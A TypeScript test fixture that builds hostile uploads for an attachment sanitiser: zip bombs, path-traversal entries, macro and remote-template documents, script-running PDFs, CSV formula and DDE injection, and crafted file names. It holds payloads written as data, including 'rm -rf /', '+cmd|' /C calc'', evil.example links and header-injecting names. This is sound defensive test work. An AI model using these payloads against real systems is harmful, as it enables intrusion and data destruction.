import { bytesOf, joined } from '../images/bytes.ts'
import { deflatedZeros, type Part, zipOf } from './zip.ts'

/** A file that is no picture and means harm; `declared` is what its sender says it is. */
export type HostileFile = {
  name: string
  bytes: () => Uint8Array<ArrayBuffer>
  fileName: string
  declared: string
  /** Refused outright, or kept with something to say: it then leaves as an attachment, and nowhere else. */
  end: 'refused' | 'neutralised'
}

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'

const types: Part = { name: '[Content_Types].xml', data: '<Types/>' }
const docx = (...more: Part[]): Part[] => [types, { name: 'word/document.xml', data: '<w:document/>' }, ...more]
const xlsx = (...more: Part[]): Part[] => [types, { name: 'xl/workbook.xml', data: '<workbook/>' }, ...more]

const archives: readonly HostileFile[] = [
  paper('a paper that unpacks to 300 MB', () => {
    const packed = deflatedZeros(300_000_000)
    return zipOf(docx({ name: 'word/media/a.bin', packed, unpacked: 300_000_000 }))
  }),
  paper('a paper of 100 000 entries', () => manyEntries(100_000, 0xffff)),
  paper('a paper of 60 000 entries', () => manyEntries(60_000)),
  paper('an entry that unpacks to more than it says', () =>
    zipOf(docx({ name: 'word/media/a.bin', packed: deflatedZeros(50_000_000), unpacked: 1000 })),
  ),
  paper('an entry that says more than deflate can do', () =>
    zipOf(docx({ name: 'word/media/a.bin', packed: deflatedZeros(1000), unpacked: 90_000_000 })),
  ),
  paper('a thousand entries over the same bytes', () => {
    const kernel: Part = { name: 'word/media/0.bin', packed: deflatedZeros(100_000), unpacked: 100_000 }
    const quoted = Array.from({ length: 1000 }, (_, each) => ({ ...kernel, name: `word/media/q${each}.bin`, at: 0 }))
    return zipOf([kernel, ...docx(), ...quoted])
  }),
  paper('a path that climbs', () => zipOf(docx({ name: '../../etc/cron.d/x', data: 'x' }))),
  paper('a path that climbs by backslashes', () => zipOf(docx({ name: '..\\..\\x.dll', data: 'x' }))),
  paper('a path from the root', () => zipOf(docx({ name: '/etc/passwd', data: 'x' }))),
  paper('a path from a drive', () => zipOf(docx({ name: 'C:/Windows/x.dll', data: 'x' }))),
  paper('an encrypted entry', () => zipOf(docx({ name: 'word/secret.xml', data: 'x', flags: 1 }))),
  paper('two entries of one name', () => zipOf(docx({ name: 'word/document.xml', data: '<other/>' }))),
  paper('an entry that its own header calls otherwise', () =>
    zipOf(docx({ name: 'word/a.xml', data: 'x', inside: 'word/b.xml' })),
  ),
  paper('an archive inside', () => zipOf(docx({ name: 'word/embeddings/inner.zip', data: 'PK' }))),
  paper('an unknown way of packing', () => zipOf(docx({ name: 'word/a.xml', data: 'x', method: 99 }))),
  paper('macros', () => zipOf(docx({ name: 'word/vbaProject.bin', data: 'x' }))),
  paper('a control that runs', () => zipOf(docx({ name: 'word/activeX/activeX1.bin', data: 'x' }))),
  paper('a paper cut before its directory', () => zipOf(docx()).slice(0, -30)),
  paper('a plain archive', () => zipOf([{ name: 'a.exe', data: 'MZ' }])),
  paper('a directory that stands nowhere', () =>
    joined(zipOf(docx()).slice(0, -8), bytesOf([255, 255, 255, 127, 0, 0])),
  ),
  paper(
    'a template fetched from elsewhere',
    () =>
      zipOf(
        docx({
          name: 'word/_rels/settings.xml.rels',
          data: '<Relationship Type="http://schemas/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        }),
      ),
    'neutralised',
  ),
  paper(
    'an object from another program',
    () => zipOf(docx({ name: 'word/embeddings/oleObject1.bin', data: 'x' })),
    'neutralised',
  ),
  {
    name: 'a sheet linked to others',
    bytes: () => zipOf(xlsx({ name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink/>' })),
    fileName: 'budget.xlsx',
    declared: sheet,
    end: 'neutralised',
  },
]

const pdfs: readonly HostileFile[] = [
  pdf('a PDF that is also a page', '<html><script>alert(1)</script></html>', 'x.html', 'text/html'),
  pdf('a PDF that runs a script', '1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  pdf('a PDF that hides its script in codes', '1 0 obj<</OpenAction<</S/J#61v#61Script/J#53(app.alert(1))>>>>endobj'),
  pdf('a PDF that launches a program', '1 0 obj<</A<</S/Launch/F(cmd.exe)>>>>endobj'),
  pdf('a PDF that carries files', '1 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj'),
  pdf('an encrypted PDF', 'trailer<</Encrypt 5 0 R>>'),
  pdf(
    'a PDF whose objects are packed beyond reading',
    '1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nnot deflate\nendstream endobj',
  ),
  pdf('a PDF whose objects go round in circles', '1 0 obj<</Kids[1 0 R]/JS 1 0 R>>endobj'),
  {
    name: 'a PDF cut before its end',
    bytes: () => bytesOf('%PDF-1.7\n1 0 obj<<>>endobj'),
    fileName: 'a.pdf',
    declared: 'application/pdf',
    end: 'refused',
  },
  {
    name: 'a page before a PDF',
    bytes: () => bytesOf('<html>', ' '.repeat(90), '%PDF-1.7\nstartxref\n0\n%%EOF'),
    fileName: 'a.pdf',
    declared: 'application/pdf',
    end: 'refused',
  },
]

const texts: readonly HostileFile[] = [
  text('a list whose cells calculate', 'nom;note\r\n=HYPERLINK("https://evil.example","cliquez");1\r\n', 'neutralised'),
  text('a list that calls a program', "nom;note\r\n+cmd|' /C calc'!A0;1\r\n", 'neutralised'),
  text('a page named as a list', '<!doctype html><script>alert(1)</script>', 'refused'),
  text('a drawing named as a list', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'refused'),
  text('a list with a NUL in it', 'nom;note\r\nana\0;1', 'refused'),
  text('a list in UTF-16', `\xff\xfe${[...'nom;note'].join('\0')}\0`, 'refused'),
  text('a program named as a list', `MZ\x90\0\x03${'\0'.repeat(60)}`, 'refused'),
  text('a script of a shell', '#!/bin/sh\nrm -rf /\n', 'neutralised'),
]

/** Every one must be refused, or leave as a plain attachment. Made when asked for: some are large. */
export const hostileFiles: readonly HostileFile[] = [...archives, ...pdfs, ...texts]

/** Names that would be headers, folders, other directions or nothing at all. */
export const hostileNames: readonly string[] = [
  'a\r\nSet-Cookie: x=1.pdf',
  '../../../etc/cron.d/x',
  '..\\..\\windows\\system32\\x.pdf',
  'facture\u202efdp.exe',
  '"; filename=x.html',
  'con.pdf',
  '\0',
  '....',
  '\ud800.pdf',
  `${'é'.repeat(300)}.pdf`,
  'a\u2066b\u2069.pdf',
  ' .pdf',
]

function paper(name: string, bytes: HostileFile['bytes'], end: HostileFile['end'] = 'refused'): HostileFile {
  return { name, bytes, fileName: 'convention.docx', declared: word, end }
}

function pdf(name: string, inside: string, fileName = 'convention.pdf', declared = 'application/pdf'): HostileFile {
  const bytes = () => bytesOf(`%PDF-1.7\n${inside}\nstartxref\n0\n%%EOF\n`)
  return { name, bytes, fileName, declared, end: 'neutralised' }
}

function text(name: string, inside: string, end: HostileFile['end']): HostileFile {
  return { name, bytes: () => bytesOf(inside), fileName: 'liste.csv', declared: 'text/csv', end }
}

/** The count of a directory has sixteen bits: more entries than it tells are no directory we can be sure of. */
function manyEntries(entries: number, count = entries): Uint8Array<ArrayBuffer> {
  return zipOf([...docx(), ...Array.from({ length: entries }, (_, each) => ({ name: `word/${each}.xml` }))], { count })
}
